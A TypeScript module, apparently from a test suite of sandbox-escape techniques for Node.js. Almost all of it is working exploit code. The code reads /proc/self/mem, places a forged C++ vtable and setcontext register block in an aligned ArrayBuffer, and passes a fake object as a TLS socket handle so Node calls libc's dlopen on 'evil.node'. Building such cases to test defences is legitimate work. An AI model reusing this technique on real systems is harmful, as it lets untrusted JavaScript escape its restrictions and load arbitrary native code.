/**
 * These techniques give Node.js objects of the program in the place of handles. Node.js takes a member of such an object for
 * the address of an object of C++. A number becomes an address whose lower half is zero, where the program has an
 * ArrayBuffer.
 */

import { type Technique, withData } from "../technique.js";
import { LIBC } from "./libc.js";

/**
 * Makes a table of functions in which each is setcontext() of libc, an object with this table, and the registers that
 * setcontext() takes from the object: with them it becomes a call of libc's own dlopen(). `pointer` is the number that
 * leads to the object.
 */
const OBJECT = `const fs = require("fs"), net = require("net"), tls = require("tls");
const maps = () => fs.readFileSync("/proc/self/maps", "latin1").split("\\n").filter(Boolean).map((l) => l.split(/\\s+/));
const mem = fs.openSync("/proc/self/mem", "r");
const peek = (at, n) => { const b = Buffer.alloc(n); fs.readSync(mem, b, 0, n, Number(at)); return b; };
${LIBC}
// a buffer at an address whose lower half is zero, as a small integer has it
const GIB = 1 << 30, ALIGN = 1n << 32n;
let view, base, at;
const kept = [];
const magic = Buffer.from("sigtool-" + process.pid + "-");
for (let i = 0; i < 6 && !view; i++) {
  const memory = new ArrayBuffer(GIB);
  kept.push(memory);
  const tag = Buffer.concat([magic, Buffer.from(String(i))]);
  new Uint8Array(memory).set(tag, 0);
  for (const [range, mode] of maps()) {
    const [a, b] = range.split("-").map((x) => BigInt("0x" + x));
    if (!mode.startsWith("rw") || b - a < 1n << 24n) continue;
    for (let edge = (a + ALIGN - 1n) / ALIGN * ALIGN; edge + 65536n <= b && !view; edge += ALIGN) {
      for (let back = 0; back < GIB && !view; back += 4096) {
        const start = edge - BigInt(back);
        if (start < a) break;
        const page = peek(start, 48);
        const found = page.indexOf(tag);
        if (found === 0 || found === 16) {
          base = start + BigInt(found); at = Number(edge - base);
          if (at >= 0) view = new DataView(memory);
        }
      }
    }
  }
}
const put = (off, v) => view.setBigUint64(at + off, BigInt(v), true);
const here = base + BigInt(at);
// the structure is a table of functions, an object, and the registers of setcontext()
for (let i = 0; i < 64; i++) put(0x4000 + i * 8, symbol("setcontext"));
put(0, here + 0x4000n);
new Uint8Array(view.buffer).set(Buffer.from(data + "/evil.node\\0"), at + 0x2000);
const stack = 0xc008;
put(stack, symbol("_exit"));
put(0x8000, 0x037fn); view.setUint32(at + 0x8018, 0x1f80, true);
put(104, here + 0x2000n); put(112, 2n); put(160, here + BigInt(stack)); put(168, symbol("dlopen")); put(224, here + 0x8000n);
view.setUint32(at + 448, 0x1f80, true);
const pointer = Number(here >> 32n);
`;

/** Node.js calls a function of the object when it reads from the socket below. */
const asHandle = (name: string, handle: string, more: Partial<Technique> = {}): Technique => ({
	...withData(
		name,
		`${OBJECT}const socket = new net.Socket();
socket._handle = ${handle};
new tls.TLSSocket(socket);`,
		more,
	),
	native: true,
});

export const handles: readonly Technique[] = [
	asHandle(
		"library by a handle of TLS that is a plain object",
		"{ a: pointer, b: pointer, c: pointer, d: pointer, e: pointer, f: pointer, isStreamBase: true }",
	),
	asHandle(
		"library by a handle of TLS that is a parser with members",
		`new (class extends require("_http_common").HTTPParser {
  constructor() {
    super();
    this.a = this.b = this.c = this.d = pointer;
    this.isStreamBase = true;
  }
})()`,
		{ notOn: { 26: "does not find the members where it looks, and crashes" } },
	),
];
